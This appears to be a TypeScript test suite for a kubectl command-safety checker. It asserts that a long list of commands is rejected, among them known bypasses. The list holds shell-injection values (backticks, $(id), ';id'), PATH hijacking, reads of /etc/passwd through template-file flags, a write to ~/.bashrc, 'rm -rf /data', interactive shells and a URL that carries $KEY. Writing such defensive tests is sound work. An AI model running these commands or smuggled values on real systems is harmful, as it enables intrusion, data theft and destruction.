/** What never runs, in no mode: among it every bypass that is known from tools which judge the text of commands. */
import assert from 'node:assert/strict';
import { assessCommand } from '../../../src/kubectl/assess.ts';

const rejects = (command: string | readonly string[], why?: RegExp): void => {
  it(`never runs ${typeof command === 'string' ? command : JSON.stringify(command)}`, () => {
    const assessment = assessCommand(command);
    assert.equal(assessment.rejected, true, assessment.reason);
    assert.equal(assessment.riskLevel, 'high');
    assert.equal(assessment.mutates, true);
    assert.match(assessment.reason, /^[A-Z`"-].*\.$|^kubectl .*\.$/);
    if (why !== undefined) assert.match(assessment.reason, why);
  });
};

describe('known bypasses', () => {
  rejects('kubectl auth reconcile -f rbac.yaml');
  rejects('kubectl config set-credentials u --exec-command=/tmp/x', /this machine/);
  rejects(`kubectl get cm x -o jsonpath='{.data.x}' > ~/.bashrc`, /redirects/);
  rejects('KUBECONFIG=/x kubectl get pods', /sets a variable/);
  rejects('PATH=/tmp/evil:$PATH kubectl get pods');
  rejects('/tmp/kubectl-evil get pods', /kubectl itself/);
  rejects('./kubectl get pods', /kubectl itself/);
  rejects('get -f "https://host/?k=$KEY"');
  rejects('kubectl get -f https://host/x', /manifest/);
  rejects('kubectl kustomize --enable-helm --helm-command=/tmp/x');
  rejects('kubectl proxy --address=0.0.0.0');
  rejects('kubectl cluster-info dump --output-directory=/tmp/x', /local file/);
  rejects('kubectl get pods\nid');
  rejects('kubectl get pods `id`');
  rejects('kubectl get pods "$(id)"');
  rejects(['kubectl', 'get', '-A;id']);
  rejects(['kubectl', 'get', 'pods', '-A$(id)']);
  rejects(['kubectl get pods']);

  it('sees a delete behind --dry-run=none', () => {
    const { riskLevel, mutates } = assessCommand('kubectl delete pod x --dry-run=none');
    assert.deepEqual({ riskLevel, mutates }, { riskLevel: 'high', mutates: true });
  });

  it('takes nothing after -- for a flag of its own', () => {
    const { riskLevel, mutates } = assessCommand('kubectl exec web -- rm -rf /data --dry-run');
    assert.deepEqual({ riskLevel, mutates }, { riskLevel: 'high', mutates: true });
  });

  // Measured with kubectl 1.36: the raw path is deleted whatever --dry-run says.
  rejects('kubectl delete --raw /api/v1/namespaces/a/pods/x --dry-run=server', /raw/);
  // Measured with kubectl 1.36: these send the request to the pod behind the API server.
  rejects('kubectl get pod web --subresource=proxy', /subresource/);
  rejects('kubectl get pod web --subresource=exec', /subresource/);
});

describe('who talks to which cluster', () => {
  for (const flag of [
    ...[
      '--kubeconfig',
      '--context',
      '--cluster',
      '--user',
      '--server',
      '-s',
      '--token',
      '--as',
      '--as-group',
    ],
    ...['--as-uid', '--as-user-extra', '--username', '--password', '--certificate-authority'],
    ...['--client-certificate', '--client-key', '--tls-server-name', '--kuberc', '--cache-dir'],
    ...['--profile', '--profile-output'],
  ]) {
    rejects(['kubectl', 'get', 'pods', flag, 'x'], /pinned|local file/);
    rejects(['kubectl', flag, 'x', 'get', 'pods'], /pinned|local file/);
    if (flag.startsWith('--')) rejects(['kubectl', 'get', `${flag}=x`, 'pods'], /pinned|local file/);
  }
  rejects('kubectl get pods -sx', /pinned/);
  rejects('kubectl get pods -ws=x', /pinned/);
  rejects('kubectl get pods --insecure-skip-tls-verify', /pinned/);
});

describe('what reads or writes this machine, or waits for a keyboard', () => {
  for (const verb of [
    'edit',
    'attach',
    'cp',
    'plugin',
    'completion',
    'alpha',
    'apply edit-last-applied',
    'kuberc',
    'help',
    'options',
  ]) {
    rejects(`kubectl ${verb} pod/x`);
  }
  for (const text of [
    'get -f x.yaml',
    'get -f -',
    'get pods -fx.yaml',
    'describe -k .',
    'scale --replicas=2 -f x.yaml',
    'delete --filename=x.yaml',
    'get pods -o go-template-file=/etc/passwd',
    'get pods -o jsonpath-file=/etc/passwd',
    'get pods -o custom-columns-file=x',
    'get pods -o templatefile=x',
    'get pods -o templatefile --template=x',
    'patch pod x --patch-file=x.json',
    'set env deploy/x -',
    'set env deploy/x -e -',
    'label pod x a=b --local',
    'exec -it web -- sh',
    'exec -i web -- sh',
    'exec web --stdin=false -- sh',
    'exec web --tty -- sh',
    'exec -f pod.yaml -- sh',
    'delete pod x -i',
    'delete pod x --interactive=false',
    'run x --image=y -it',
    'run x --image=y --stdin -- sh',
    'run x --image=y --attach',
    'run x --image=y --rm',
    'run x --image=y -f x.yaml',
    'debug x -it --image=y',
    'debug x --image=y --attach',
    'debug x --image=y --custom=x.json',
    'debug -f x.yaml --image=y',
    'create -f - --edit',
    'create configmap x --from-file=a',
    'create cm x --from-env-file=a',
    'create secret generic x --from-file=a',
    'create secret generic x --from-env-file=a',
    'create secret docker-registry x --from-file=a',
    'create secret tls x --cert=a --key=b',
    'apply -f x.yaml',
    'apply -f https://host/x.yaml',
    'apply -f -,x.yaml',
    'apply -f /dev/stdin',
    'apply -k .',
    'create -f x.yaml',
    'replace -f x.yaml',
    'diff -f x.yaml',
    'expose -f x.yaml --port=80',
    'autoscale -f x.yaml --max=3',
    'set subject rolebinding x --user=a --local',
    'port-forward x 80 --address=0.0.0.0',
    'port-forward x 80 --address=localhost,10.0.0.1',
  ]) {
    rejects(`kubectl ${text}`);
  }
});

describe('what is not understood', () => {
  for (const text of [
    '',
    'frobnicate',
    'get',
    'rollout',
    'set',
    'auth',
    'top',
    'rollout frobnicate deploy/x',
    'cluster-info frobnicate',
    'apply -f x',
    'replace --force -f x',
    'diff -f x',
    'create',
    'create ns',
    'create ns a b',
    'create ns ../x',
    'create ns -- x',
    'create ns x -- y',
    'create secret',
    'create secret x',
    'create service x',
    'create pods x',
    'create -A ns x',
    'create -f - ns x',
    'create --raw /api/v1/namespaces -f -',
    'create --selector=a=b ns x',
    'replace --raw /api/v1/namespaces/x -f -',
    'apply',
    'apply -f - --prune -l a=b',
    'apply -f - --prune --all',
    'apply view-last-applied',
    'apply frobnicate',
    'run',
    'run x y --image=z',
    `run x --image=y --overrides='{"kind":"Secret"}'`,
    `run x --image=y --overrides='{"metadata":{"namespace":"kube-system"}}'`,
    'run x --image=y --overrides=x',
    `run x --image=y --override-type=json --overrides='[]'`,
    'expose deploy --port=80',
    'autoscale deploy --max=3',
    'expose deploy web --port=80 --name=../x',
    'drain',
    'drain pod/x',
    'taint',
    'taint node n a=b:NoSchedule c',
    'certificate',
    'certificate approve',
    'certificate approve pod/x',
    'certificate frobnicate x',
    'debug',
    'debug x y --image=z',
    'debug x --copy-to=../y',
    'port-forward x',
    'port-forward x a/b',
    'auth reconcile -f - --dry-run=server',
    'get pods --frobnicate',
    'get pods --all',
    'get pods -z',
    'get pods --dry_run',
    'get pods --help',
    '-A get pods',
    '-o yaml get pods',
    '-- get pods',
    'rollout -- restart deploy/x',
    'get pods -n',
    'get pods -n=',
    `get pods -n ''`,
    'get pods -n ../x',
    'get pods -n --all',
    'get pods --watch=1',
    'get pods -o frobnicate',
    'get pods -o -A',
    'get pods pod/x',
    'get pod/x pods',
    'get pod/x/y',
    'get pod/',
    'get /x',
    'get pods,,svc',
    `get ''`,
    `get pods ''`,
    `delete pod x ''`,
    'get pods a/b',
    'get pods -- -A',
    `get 'pods?x'`,
    `get pods '../x'`,
    `get pods 'a%2fb'`,
    'get pods --raw /version',
    'delete pod x --dry-run',
    'delete pod x --dry-run server',
    'delete pod x --dry-run=true',
    'delete pod x --dry-run=',
    'delete pod x --grace-period=00',
    'delete pod x --grace-period=0x0',
    'delete pod x --cascade=frobnicate',
    'scale deploy x',
    'scale deploy x --replicas=-1',
    'scale deploy x --replicas=0x0',
    'scale deploy x --replicas=1_0',
    'scale deploy x --replicas',
    'label pods x a=b y',
    'patch deploy x',
    `patch deploy x -p 'spec: {replicas: 0}'`,
    `patch deploy x -p '{"spec":{"replicas":1},"spec":{"replicas":0}}'`,
    `patch deploy x -p '1'`,
    `patch pod x --subresource=eviction -p '{}'`,
    'exec web ls',
    'exec web -c app',
    'exec -- web ls',
    'exec web x -- ls',
    'cordon',
    'cordon pod/x',
    'logs',
    'logs a b c',
    'version x',
    'events x',
    'top pod a b',
    'set sa robot',
  ]) {
    rejects(`kubectl ${text}`.trim());
  }
  rejects([]);
  rejects(['']);
  rejects(['Kubectl', 'get', 'pods']);
  rejects(['kubectl', 'get', 'pods', 'a\u0000b']);
  rejects(['kubectl', 'get', 'pods', '-l', 'a=\u202eb']);
  rejects(['kubectl', 'label', 'pod', 'x', 'a=\ud800']);
  rejects(['kubectl', 'get', ...Array<string>(2000).fill('x')]);
  rejects(['kubectl', 'get', Array(600).fill('pods').join(',')]);
  rejects(`kubectl patch deploy x -p '${'['.repeat(5000)}${']'.repeat(5000)}'`, /deep/);
  rejects(`kubectl get pods ${'x'.repeat(40_000)}`);
  rejects(42 as unknown as string);
  rejects(['kubectl', 7] as unknown as string[]);
});
